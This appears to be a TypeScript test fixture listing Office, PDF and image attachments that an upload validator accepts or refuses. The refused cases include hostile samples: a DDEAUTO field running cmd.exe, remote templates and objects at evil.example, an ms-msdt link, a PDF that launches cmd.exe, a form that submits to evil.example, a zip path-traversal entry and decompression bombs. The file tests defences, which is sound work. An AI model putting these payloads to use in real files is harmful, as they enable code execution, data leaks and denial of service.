/** Files as attachments: those that are taken, with the name they get, and those that are refused, with the code. */
import { deflateSync } from 'node:zlib'
import { strToU8, zipSync } from 'fflate'
import { docx, pdf, relationship, relationships } from '../../support/office-files.ts'
import { aJpeg } from '../../support/print/a-jpeg.ts'
import { aPng } from '../../support/print/a-picture.ts'
import { xlsxBook } from '../../support/xlsx-book.ts'

const book = (change: Record<string, string | Uint8Array | null> = {}) =>
  xlsxBook([{ name: '数据', rows: [['事项', '件数']] }], { change })

export const TAKEN: [what: string, file: Uint8Array, given: string, name: string][] = [
  ['a Word file', docx(['第一段。', '第二段。']), '来稿.docx', '来稿.docx'],
  ['a Word file that is called something else', docx(['一段。']), '来稿.exe', '来稿.exe.docx'],
  [
    'a Word file made from a template of its own disk',
    docx(['一段。'], {
      change: {
        'word/_rels/settings.xml.rels': relationships(
          relationship('attachedTemplate', 'file:///C:\\Users\\wu\\Normal.dotm'),
        ),
      },
    }),
    'a.docx',
    'a.docx',
  ],
  [
    'a Word file with a link',
    docx(['一段。'], {
      change: { 'word/_rels/document.xml.rels': relationships(relationship('hyperlink', 'https://www.gov.cn/')) },
    }),
    'b.docx',
    'b.docx',
  ],
  [
    'a chart’s workbook in a Word file',
    docx(['一段。'], { change: { 'word/embeddings/book.xlsx': book() } }),
    'c.docx',
    'c.docx',
  ],
  ['an Excel file', book(), '数据.XLSX', '数据.xlsx'],
  [
    'an Excel file with settings of a printer',
    book({ 'xl/printerSettings/printerSettings1.bin': 'x' }),
    'd.xlsx',
    'd.xlsx',
  ],
  ['a PDF', pdf(), '通知.pdf', '通知.pdf'],
  ['a PDF that opens at a page', pdf(['<< /OpenAction [2 0 R /Fit] >>'], ['5 0 << /Type /Page >>']), 'e.pdf', 'e.pdf'],
  ['a PNG', aPng(30, 20), 'C:\\图片\\窗口.png', '窗口.png'],
  ['a JPEG', aJpeg(), '现场.JPEG', '现场.jpg'],
  ['a name that reads backwards', aPng(31, 20), 'a\u202Egnp.exe', 'agnp.exe.png'],
  ['no name', aPng(32, 20), '.png', '附件.png'],
  ['half a character in its name', aPng(33, 20), '\udfb7图\ud842.png', '\ufffd图\ufffd.png'],
  ['half a character for its name', aPng(34, 20), '\ud842', '\ufffd.png'],
]

const inWord = (change: Record<string, string | Uint8Array>, types = '') => docx(['一段。'], { change, types })
const rels = (type: string, target: string) =>
  inWord({ 'word/_rels/document.xml.rels': relationships(relationship(type, target)) })
const field = (...runs: string[]) =>
  docx([], { body: `<w:p>${runs.map((run) => `<w:r><w:instrText>${run}</w:instrText></w:r>`).join('')}</w:p>` })
const ZEROS = new Uint8Array(60_000_000)
const old = (more = '') =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), Buffer.from(more, 'utf16le')])
const MACROS =
  '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
const DIRECTORY_OF_MANY = zipSync(
  Object.fromEntries(Array.from({ length: 5001 }, (_, n) => [`word/${n}.txt`, new Uint8Array()])),
)

export const REFUSED: [what: string, file: Uint8Array, code: string][] = [
  ['nothing', new Uint8Array(), 'attachment-type'],
  ['a text', strToU8('来稿正文'), 'attachment-type'],
  ['a web page', strToU8('<!doctype html><script>alert(1)</script>'), 'attachment-type'],
  ['an SVG', strToU8('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'attachment-type'],
  ['a program', Buffer.from('MZ\x90\0', 'latin1'), 'attachment-type'],
  ['a zip', zipSync({ 'a.docx': docx(['一段。']) }), 'attachment-type'],
  [
    'a presentation',
    inWord({
      '[Content_Types].xml':
        '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>',
    }),
    'attachment-type',
  ],
  ['an old Word file', old(), 'attachment-old-office'],
  ['a Word file with a password', old('EncryptedPackage'), 'attachment-locked'],
  ['a Word file with macros', inWord({ 'word/vbaProject.bin': 'x' }), 'attachment-active'],
  [
    'macros under another name',
    inWord(
      { 'word/data.xml': 'x' },
      '<Override PartName="/word/data.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
    ),
    'attachment-active',
  ],
  ['a .docm that is called .docx', inWord({}, MACROS), 'attachment-active'],
  ['a control', inWord({ 'word/activeX/activeX1.xml': '<x/>' }), 'attachment-active'],
  ['an object', inWord({ 'word/embeddings/oleObject1.bin': 'x' }), 'attachment-active'],
  [
    'macros in an embedded workbook',
    inWord({ 'word/embeddings/a.xlsx': book({ 'xl/vbaProject.bin': 'x' }) }),
    'attachment-active',
  ],
  [
    'a workbook in a workbook in a file',
    inWord({ 'word/embeddings/a.xlsx': book({ 'xl/embeddings/b.xlsx': book() }) }),
    'attachment-active',
  ],
  ['a web page in a Word file', inWord({ 'word/afchunk.html': '<script/>' }), 'attachment-active'],
  [
    'a web page under another name',
    inWord({ 'word/part.dat': '<script/>' }, '<Override PartName="/word/part.dat" ContentType="text/html"/>'),
    'attachment-active',
  ],
  ['a template from elsewhere', rels('attachedTemplate', 'https://evil.example/a.dotm'), 'attachment-active'],
  ['a template from a share', rels('attachedTemplate', '\\\\10.0.0.1\\a.dotm'), 'attachment-active'],
  [
    'a template whose address is spelled otherwise',
    rels('attachedTemplate', '&#104;ttps&#x3A;//evil.example/a.dotm'),
    'attachment-active',
  ],
  ['an object from elsewhere', rels('oleObject', 'mhtml:https://evil.example/x.html'), 'attachment-active'],
  ['a picture from elsewhere', rels('image', 'https://evil.example/pixel.png'), 'attachment-active'],
  ['a link that runs something', rels('hyperlink', 'ms-msdt:/id PCWDiagnostic'), 'attachment-active'],
  ['DDE in one run', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), 'attachment-active'],
  ['DDE in three runs', field('DD', 'EAU', 'TO cmd'), 'attachment-active'],
  ['DDE in a simple field', docx([], { body: "<w:fldSimple w:instr='&#68;DE cmd'/>" }), 'attachment-active'],
  [
    'DDE of Excel',
    book({ 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }),
    'attachment-active',
  ],
  ['data from elsewhere', book({ 'xl/connections.xml': '<connections/>' }), 'attachment-active'],
  ['a zip of one entry that leads out', inWord({ '../../etc/cron.d/x': 'x' }), 'attachment-damaged'],
  [
    'XML in another encoding',
    inWord({ 'word/_rels/document.xml.rels': Buffer.from(`\uFEFF${relationships()}`, 'utf16le') }),
    'attachment-damaged',
  ],
  [
    'XML with entities',
    inWord({ 'word/document.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' }),
    'attachment-damaged',
  ],
  ['a Word file cut off', docx(['一段。']).subarray(0, 400), 'attachment-damaged'],
  [
    'a Word file with something behind it',
    Buffer.concat([docx(['一段。']), Buffer.from('#!/bin/sh')]),
    'attachment-damaged',
  ],
  [
    'a bomb',
    inWord(Object.fromEntries([1, 2, 3, 4].map((n) => [`word/media/${n}.png`, ZEROS]))),
    'attachment-unpacks-too-large',
  ],
  ['a bomb in its text', inWord({ 'word/document.xml': ZEROS }), 'attachment-damaged'],
  ['a directory of very many', DIRECTORY_OF_MANY, 'attachment-unpacks-too-large'],
  ['a PDF cut off', pdf().subarray(0, 60), 'attachment-damaged'],
  ['a PDF with a zip behind it', Buffer.concat([pdf(), docx(['一段。'])]), 'attachment-damaged'],
  ['a PDF with a password', pdf([], [], '/Encrypt 9 0 R'), 'attachment-locked'],
  ['a PDF with a script', pdf(['<< /S /JavaScript /JS (app.alert(1)) >>']), 'attachment-active'],
  ['a script that is spelled otherwise', pdf(['<< /S /J#61vaScript /J#53 (app.alert(1)) >>']), 'attachment-active'],
  ['a script in an object stream', pdf([], ['5 0 << /S /JavaScript /JS (x) >>']), 'attachment-active'],
  ['a script in an object stream whose filter lies elsewhere', inObjects('/Filter 7 0 R'), 'attachment-damaged'],
  [
    'a script in an object stream that begins as some readers bear it',
    inObjects('/Filter /FlateDecode', '\r'),
    'attachment-active',
  ],
  ['a program that is begun', pdf(['<< /S /Launch /F (cmd.exe) >>']), 'attachment-active'],
  ['a file in a PDF', pdf(['<< /Names << /EmbeddedFiles 3 0 R >> >>']), 'attachment-active'],
  ['a form that sends', pdf(['<< /S /SubmitForm /F (http://evil.example) >>']), 'attachment-active'],
  ['a bomb in a PDF', bombInPdf(), 'attachment-unpacks-too-large'],
  ['a PNG cut off', aPng(30, 20).subarray(0, 40), 'attachment-damaged'],
  ['a PNG with a zip behind it', Buffer.concat([aPng(30, 20), docx(['一段。'])]), 'attachment-damaged'],
  ['a PNG that claims 12,000 × 12,000', claiming(12_000), 'picture-too-many-pixels'],
]

function claiming(side: number): Buffer {
  const file = Buffer.from(aPng(4, 4))
  file.writeUInt32BE(side, 16)
  file.writeUInt32BE(side, 20)
  return file
}

/** A script packed into an object stream, with what its dictionary says of the filter, and the line end behind `stream`. */
function inObjects(filter: string, lineEnd = '\n'): Buffer {
  const packed = deflateSync('5 0 << /S /JavaScript /JS (x) >>')
  const [head = '', tail = ''] = pdf([`<< /Type /ObjStm /N 1 /First 4 ${filter} >>\nstream${lineEnd}HERE\nendstream`])
    .toString('latin1')
    .split('HERE')
  return Buffer.concat([Buffer.from(head, 'latin1'), packed, Buffer.from(tail, 'latin1')])
}

function bombInPdf(): Buffer {
  const packed = deflateSync(ZEROS)
  const [head = '', tail = ''] = pdf([`<< /Type /ObjStm /First 4 /Filter /FlateDecode >>\nstream\nHERE\nendstream`])
    .toString('latin1')
    .split('HERE')
  return Buffer.concat([Buffer.from(head, 'latin1'), packed, Buffer.from(tail, 'latin1')])
}
